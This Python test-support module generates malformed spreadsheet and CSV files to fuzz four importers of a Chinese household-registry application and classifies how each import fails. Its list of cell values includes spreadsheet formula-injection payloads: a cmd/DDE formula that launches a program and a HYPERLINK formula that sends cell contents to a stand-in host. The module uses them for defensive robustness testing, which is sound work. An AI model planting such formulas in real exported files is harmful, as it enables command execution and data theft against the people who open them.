"""Generated broken files for the four importers (issue 21.2), shared by ``tests/test_import_fuzz.py`` (a few hundred
cases in CI) and ``benchmarks/fuzz_imports.py`` (10 000).

A case starts from a small valid file of its importer — households (户信息 + 成员信息), regions (区划代码表),
department data (医保), accounts (账号表) — and breaks it: a cell of the wrong type (numbers, booleans, dates,
error values, control characters, a formula such as ``=cmd|' /C calc'!A0`` or ``=HYPERLINK(…)``), a huge cell,
10 000 columns, a repeated key row, a missing, repeated or renamed header, header only, an empty file; then
writes it as an .xlsx (with sheets renamed, missing, extra or reordered; truncated; a byte flipped) or a CSV in
some encoding (UTF-8 with and without BOM, GBK, GB18030, UTF-16, Latin-1), or replaces it with random bytes.

``run_case`` feeds the file to the importer's command (``fangfan import-households`` / ``import-regions`` /
``import-department medical`` / ``import-users``, the way an operator runs it) and classifies what happened:
accepted, refused (a Chinese message; every problem naming the file, and the row and column of a cell at fault),
or a defect — a traceback, a refusal that changed the database (a partial write), a refusal not in Chinese or not
naming where.
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
import shutil
import tempfile
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from hypothesis import strategies as st

from fangfan.registry.formats import HOUSEHOLD_COLUMNS, MEMBER_COLUMNS
from fangfan.registry.idnumber import check_digit

VILLAGE = "341523104201"  # 东风村 of the demo tree
TOWN = "341523104000"
IMPORTERS = ("households", "regions", "department", "users")
CHINESE = re.compile(r"[\u4e00-\u9fff]")
# What a refused import may still write, by design: that an ID number is registered elsewhere was shown.
AUDIT_ALLOWED_ON_REFUSAL = ("member.elsewhere_shown",)
TABLE_PREFIXES = ("regions_", "accounts_", "registry_", "monitoring_", "assistance_", "workflows_", "core_")
TABLES_SKIPPED = ("core_throttlehit",)


def _id(birth: str, seq: int) -> str:
    first17 = f"341523{birth}{seq:03d}"
    return first17 + check_digit(first17)


# --- the valid file of each importer ----------------------------------------------------------------------------

HH_HEADERS = [c.header for c in HOUSEHOLD_COLUMNS]
M_HEADERS = [c.header for c in MEMBER_COLUMNS]


def _household(number: str, **over) -> dict:
    row = {
        "户编号": number, "行政区划代码": VILLAGE, "户类型": "脱贫户", "脱贫年度": "2019", "脱贫户分类": "享受政策",
        "联系电话": "13800138000", "工资性收入": "24000", "生产经营性收入": "6000", "生产经营性支出": "2000",
        "财产性收入": "300", "转移性收入": "3600.50", "合规自付支出": "0", "吃穿不愁": "是", "住房安全等级": "B",
        "饮水安全": "是",
    }  # fmt: skip
    row.update(over)
    return row


def _member(number: str, name: str, id_number: str, relation: str, **over) -> dict:
    row = {
        "户编号": number, "姓名": name, "证件号码": id_number, "与户主关系": relation, "文化程度": "初中",
        "在校生状况": "非在校生", "健康状况": "健康", "劳动技能": "普通劳动力", "务工时间（月）": "10",
        "务工地": "江苏省苏州市", "参加城乡居民基本医疗保险": "是", "参加职工基本医疗保险": "否",
        "参加城乡居民基本养老保险": "是", "享受低保": "否", "特困供养": "否",
    }  # fmt: skip
    row.update(over)
    return row


@dataclass
class Table:
    """One sheet (or CSV file): a name, the header row and the data rows, all cells as Python values."""

    name: str
    headers: list
    rows: list[list]

    def copy(self) -> Table:
        return Table(self.name, list(self.headers), [list(r) for r in self.rows])


def base_tables(importer: str) -> list[Table]:
    if importer == "households":
        h1, h2 = "34152310420190001", "34152310420190002"
        households = [
            _household(h1),
            _household(h2, 户类型="一般农户", 脱贫年度="", 脱贫户分类="", 联系电话=""),
        ]
        members = [
            _member(h1, "张三", _id("19700101", 811), "户主"),
            _member(h1, "李四", _id("19720305", 822), "配偶"),
            _member(
                h2, "王五", _id("19500707", 841), "户主", 劳动技能="丧失劳动力", **{"务工时间（月）": "0"}
            ),
        ]
        return [
            Table("户信息", list(HH_HEADERS), [[r.get(h, "") for h in HH_HEADERS] for r in households]),
            Table("成员信息", list(M_HEADERS), [[r.get(h, "") for h in M_HEADERS] for r in members]),
        ]
    if importer == "regions":
        return [
            Table("区划", ["区划代码", "名称"], [["341523104291", "测试一村"], ["341523104292", "测试二村"]])
        ]
    if importer == "department":
        return [
            Table(
                "医保",
                ["证件号码", "姓名", "结算日期", "医疗总费用", "个人自付金额"],
                [
                    [SEEDED_ID, "赵大", "2026-03-05", "20000", "8000"],
                    ["11010519491231002X", "无名氏", "2026-03-06", "900", "500"],
                ],
            )
        ]
    if importer == "users":
        return [
            Table(
                "账号",
                ["账号", "姓名", "角色", "区划代码", "手机号", "部门"],
                [
                    ["fz-clerk", "王会计", "村级经办", VILLAGE, "13800000001", ""],
                    ["fz-station", "李站长", "镇扶贫工作站", TOWN, "", ""],
                ],
            )
        ]
    raise ValueError(importer)


SEEDED_ID = _id("19650505", 901)  # the head of the seeded household (the department file matches it)


def seed() -> None:
    """The small database every case starts from: the demo region tree, one household of 东风村 with its head
    (the department file's first row matches him), and the command-line account."""
    import getpass

    from fangfan.accounts.models import User
    from fangfan.regions.models import Region
    from fangfan.regions.services import regions_import
    from fangfan.registry.derive import name_initials
    from fangfan.registry.models import Household, Member
    from fangfan.registry.services import household_recompute, id_fields

    if not Region.objects.filter(code=VILLAGE).exists():
        regions_import(path=Path(__file__).resolve().parents[1] / "src/fangfan/regions/fixtures/demo_regions.csv",
                       actor=User.objects.cli_account(getpass.getuser()))  # fmt: skip
    User.objects.cli_account(getpass.getuser())
    if Household.objects.unscoped().filter(number="34152310420180001").exists():
        return
    household = Household.objects.create(
        number="34152310420180001", region_id=VILLAGE, household_type="general"
    )
    ids = id_fields(SEEDED_ID)
    ids.pop("disability_from_card")
    Member.objects.create(
        household=household,
        name="赵大",
        name_initials=name_initials("赵大"),
        relation="户主",
        is_head=True,
        **ids,
    )
    household_recompute(household)


# --- breaking it -------------------------------------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?x="&A1,"点击")',
    "=1+1",
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(1)",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]


class Typed:
    """A cell written with an .xlsx type (number, boolean, error, formula with a cached value, date serial)."""

    def __init__(self, kind: str, value):
        self.kind, self.value = kind, value

    def __str__(self) -> str:
        return str(self.value)

    def __repr__(self) -> str:
        return f"Typed({self.kind!r}, {self.value!r})"


cell_values = st.one_of(
    st.text(max_size=30),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=12),
    st.sampled_from(FORMULAS),
    st.sampled_from(
        ["", " ", "是", "否", "户主", "NaN", "inf", "-0", "1e308", "0x10", "２０１９", "1,000", "—"]
    ),
    st.integers(-(10**20), 10**20).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(lambda f: Typed("n", f)),
    st.integers(-(10**17), 10**18).map(lambda i: Typed("n", i)),
    st.booleans().map(lambda b: Typed("b", b)),
    st.sampled_from(["#N/A", "#DIV/0!", "#REF!", "#VALUE!"]).map(lambda e: Typed("e", e)),
    st.sampled_from(FORMULAS).map(lambda f: Typed("f", f)),
    st.floats(0, 80_000).map(lambda d: Typed("d", d)),  # a date serial in a date-formatted cell
    st.sampled_from(["x" * 40_000, "中" * 33_000, "1" * 5000]),  # huge cells
)


@dataclass
class Case:
    importer: str
    tables: list[Table]
    container: str  # xlsx | csv:<encoding> | bytes
    damage: str = "none"  # truncate | flip | none
    cut: float = 0.5
    raw: bytes = b""
    bad_cell: tuple[str, int, str] | None = None  # (sheet, row as Excel numbers it, header) of a mutated cell
    steps: list[str] = field(default_factory=list)

    def describe(self) -> str:
        return f"{self.importer} {self.container} {self.damage} {' '.join(self.steps)}"


@st.composite
def cases(draw, importer: str | None = None) -> Case:
    importer = importer or draw(st.sampled_from(IMPORTERS))
    tables = base_tables(importer)
    case = Case(importer=importer, tables=tables, container="xlsx")
    for _ in range(draw(st.integers(1, 3))):
        _mutate(draw, case)
    container = draw(
        st.sampled_from(
            ["xlsx", "xlsx", "xlsx", "csv:utf-8-sig", "csv:utf-8", "csv:gbk", "csv:gb18030", "csv:utf-16",
             "csv:utf-16-le", "csv:latin-1", "bytes"]
        )
    )  # fmt: skip
    case.container = container
    if container == "bytes":
        case.raw = draw(
            st.one_of(st.binary(max_size=3000), st.sampled_from([b"", b"\xef\xbb\xbf", b"PK\x03\x04"]))
        )
    elif container == "xlsx":
        case.damage = draw(st.sampled_from(["none", "none", "none", "truncate", "flip"]))
        case.cut = draw(st.floats(0, 1))
    return case


def _mutate(draw, case: Case) -> None:
    what = draw(
        st.sampled_from(
            ["cell", "cell", "cell", "cell", "duplicate_row", "drop_header", "repeat_header", "rename_header",
             "many_columns", "header_only", "empty", "sheet_name", "drop_sheet", "extra_sheet", "swap_sheets",
             "long_row", "short_row", "blank_rows"]
        )
    )  # fmt: skip
    tables = case.tables
    table = tables[draw(st.integers(0, len(tables) - 1))] if tables else None
    case.steps.append(what)
    if table is None:
        return
    if what == "cell" and table.rows and table.headers:
        r = draw(st.integers(0, len(table.rows) - 1))
        c = draw(st.integers(0, len(table.headers) - 1))
        table.rows[r] += [""] * (c + 1 - len(table.rows[r]))
        table.rows[r][c] = draw(cell_values)
        case.bad_cell = (table.name, r + 2, str(table.headers[c])) if case.bad_cell is None else case.bad_cell
    elif what == "duplicate_row" and table.rows:
        table.rows.append(list(table.rows[draw(st.integers(0, len(table.rows) - 1))]))
    elif what == "drop_header" and table.headers:
        c = draw(st.integers(0, len(table.headers) - 1))
        del table.headers[c]
        for row in table.rows:
            del row[c : c + 1]
    elif what == "repeat_header" and table.headers:
        c = draw(st.integers(0, len(table.headers) - 1))
        table.headers.append(table.headers[c])
        for row in table.rows:
            row.append(row[c] if c < len(row) else "")
    elif what == "rename_header" and table.headers:
        table.headers[draw(st.integers(0, len(table.headers) - 1))] = draw(cell_values)
    elif what == "many_columns":
        n = draw(st.sampled_from([250, 10_000]))
        table.headers += [f"附加{i}" for i in range(n)]
        for row in table.rows:
            row += ["x"] * n
    elif what == "header_only":
        table.rows = []
    elif what == "empty":
        table.headers, table.rows = [], []
    elif what == "sheet_name":
        table.name = draw(st.sampled_from(["Sheet1", "户信息", "成员信息", "户 信息", "成员", "账号", ""]))
    elif what == "drop_sheet" and len(tables) > 1:
        tables.remove(table)
    elif what == "extra_sheet":
        tables.append(Table(draw(st.sampled_from(["说明", "Sheet2", "户信息"])), ["a", "b"], [["1", "2"]]))
    elif what == "swap_sheets":
        tables.reverse()
    elif what == "long_row" and table.rows:
        table.rows[0] = table.rows[0] + ["多出来的"] * draw(st.integers(1, 5))
    elif what == "short_row" and table.rows:
        table.rows[-1] = table.rows[-1][: draw(st.integers(0, len(table.rows[-1])))]
    elif what == "blank_rows":
        at = draw(st.integers(0, len(table.rows)))
        table.rows[at:at] = [[""] * len(table.headers) for _ in range(3)]


# --- writing the files ---------------------------------------------------------------------------------------------

_XML_BAD = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def _esc(value: str) -> str:
    return str(value).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _col(n: int) -> str:
    letters = ""
    n += 1
    while n:
        n, rest = divmod(n - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _xml_cell(ref: str, value) -> str:
    if isinstance(value, Typed):
        if value.kind == "n" or value.kind == "d":
            v = repr(float(value.value)) if value.kind == "d" else str(value.value)
            style = ' s="1"' if value.kind == "d" else ""
            return f'<c r="{ref}"{style}><v>{_esc(v)}</v></c>'
        if value.kind == "b":
            return f'<c r="{ref}" t="b"><v>{int(value.value)}</v></c>'
        if value.kind == "e":
            return f'<c r="{ref}" t="e"><v>{_esc(value.value)}</v></c>'
        return f'<c r="{ref}" t="str"><f>{_esc(value.value.lstrip("=+-@"))}</f><v>{_esc(value.value)}</v></c>'
    if value in ("", None):
        return ""
    # Control characters make the XML invalid, as in a damaged file: kept on purpose now and then.
    return f'<c r="{ref}" t="inlineStr"><is><t>{_esc(value)}</t></is></c>'


_STYLES = (
    '<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    '2006/main"><numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy-mm-dd"/></numFmts><fonts count="1">'
    '<font/></fonts><fills count="1"><fill/></fills><borders count="1"><border/></borders>'
    '<cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0"/>'
    '<xf numFmtId="164" applyNumberFormat="1"/></cellXfs></styleSheet>'
)


def write_xlsx(path: Path, tables: list[Table]) -> Path:
    from xlsx_craft import sheet_xml, workbook

    sheets: dict[str, str] = {}
    for i, table in enumerate(tables):
        rows = []
        for r, values in enumerate([table.headers, *table.rows], start=1):
            cells = "".join(_xml_cell(f"{_col(c)}{r}", v) for c, v in enumerate(values))
            rows.append(f'<row r="{r}">{cells}</row>')
        name = _esc(table.name) or f"Sheet{i + 1}"
        while name in sheets:
            name += "_"
        sheets[name] = sheet_xml(rows)
    workbook(path, sheets)
    with zipfile.ZipFile(path, "a") as archive:  # a date format for the date serials (style 1)
        archive.writestr("xl/styles.xml", _STYLES)
    return path


def _csv_bytes(table: Table, encoding: str) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    for values in [table.headers, *table.rows] if table.headers or table.rows else []:
        writer.writerow([str(v) for v in values])
    return out.getvalue().encode(encoding, errors="replace")


CSV_NAMES = {"户信息": "户信息.csv", "成员信息": "成员信息.csv"}


def write_case(case: Case, folder: Path) -> Path:
    """Write the case's file(s) into ``folder``; return what the command is given (a file, or a folder of two
    CSV files for the household importer)."""
    stem = {"households": "农户信息", "regions": "区划代码表", "department": "医保数据", "users": "账号表"}[
        case.importer
    ]
    if case.container == "bytes":
        path = folder / f"{stem}.{'csv' if len(case.raw) % 2 else 'xlsx'}"
        path.write_bytes(case.raw)
        return path
    if case.container == "xlsx":
        path = write_xlsx(folder / f"{stem}.xlsx", case.tables)
        if case.damage != "none":
            data = path.read_bytes()
            at = int(len(data) * case.cut)
            if case.damage == "truncate":
                data = data[:at]
            elif data:
                at = min(at, len(data) - 1)
                data = data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]
            path.write_bytes(data)
        return path
    encoding = case.container.split(":", 1)[1]
    if case.importer == "households" and len(case.tables) != 1:
        target = folder / stem
        target.mkdir()
        for table in case.tables:
            name = CSV_NAMES.get(table.name, f"{table.name or '无名'}.csv")
            (target / name).write_bytes(_csv_bytes(table, encoding))
        return target
    table = case.tables[0] if case.tables else Table("", [], [])
    name = CSV_NAMES.get(table.name, f"{stem}.csv") if case.importer == "households" else f"{stem}.csv"
    path = folder / name
    path.write_bytes(_csv_bytes(table, encoding))
    return path


# --- running one case ----------------------------------------------------------------------------------------------


def fingerprint() -> dict[str, tuple[int, str]]:
    """Row count and a checksum of every table an importer could write (audit events a refusal may write by
    design left out)."""
    from django.db import connection

    allowed = ", ".join(f"'{a}'" for a in AUDIT_ALLOWED_ON_REFUSAL)
    result = {}
    with connection.cursor() as cursor:
        for table in sorted(connection.introspection.table_names(cursor)):
            if not table.startswith(TABLE_PREFIXES) or table in TABLES_SKIPPED:
                continue
            where = f" WHERE action NOT IN ({allowed})" if table == "core_auditevent" else ""
            cursor.execute(f'SELECT * FROM "{table}"{where}')  # noqa: S608 - table names from introspection
            rows = sorted(repr(row) for row in cursor.fetchall())
            result[table] = (len(rows), hashlib.sha256("\n".join(rows).encode()).hexdigest()[:16])
    return result


@dataclass
class Outcome:
    kind: str  # accepted | refused | traceback | partial | unnamed
    message: str = ""
    detail: str = ""


COMMANDS = {
    "households": lambda path: ["import-households", str(path)],
    "regions": lambda path: ["import-regions", str(path)],
    "department": lambda path: ["import-department", "medical", str(path)],
    "users": lambda path: ["import-users", str(path)],
}
_ROW = re.compile(r"第(\d+)行")
_COLUMN = re.compile(r"列“([^”]*)”")


def run_case(case: Case) -> Outcome:
    """Write the case's file, import it through the command, and say what happened (see the module's text)."""
    import traceback

    from django.core.management import call_command
    from django.core.management.base import CommandError

    folder = Path(tempfile.mkdtemp(prefix="fuzz-"))
    try:
        target = write_case(case, folder)
        names = [p.name for p in target.iterdir()] if target.is_dir() else [target.name]
        before = fingerprint()
        out, err = io.StringIO(), io.StringIO()
        try:
            call_command(*COMMANDS[case.importer](target), stdout=out, stderr=err)
        except CommandError as exc:
            message = str(exc)
        except BaseException as exc:  # noqa: BLE001 - a traceback is what the fuzzer looks for
            if isinstance(exc, KeyboardInterrupt):
                raise
            return Outcome("traceback", type(exc).__name__, traceback.format_exc(limit=-8))
        else:
            return Outcome("accepted", out.getvalue()[:200])
        after = fingerprint()
        if after != before:
            changed = [t for t in after if after[t] != before.get(t)]
            return Outcome("partial", message, f"tables changed by a refused import: {changed}")
        problems = [line.strip() for line in err.getvalue().splitlines() if line.strip()]
        fault = _naming_fault(case, message, problems, names + [target.name])
        if fault:
            return Outcome("unnamed", message, fault + "\n" + "\n".join(problems[:10]))
        return Outcome("refused", message)
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def _naming_fault(case: Case, message: str, problems: list[str], names: list[str]) -> str:
    """Why the refusal does not say clearly enough where the fault is, or "" when it does."""
    if not CHINESE.search(message):
        return "the message is not in Chinese"
    if any(not CHINESE.search(p) for p in problems):
        return "a problem is not in Chinese"
    named = [n for n in names if n]
    if problems:
        for p in problems:
            if p.startswith("……"):
                continue
            if not any(p.startswith(n) for n in named):
                return f"a problem does not start with the file name {named}"
    elif not any(n in message for n in named):
        return f"the message does not name the file {named}"
    return ""
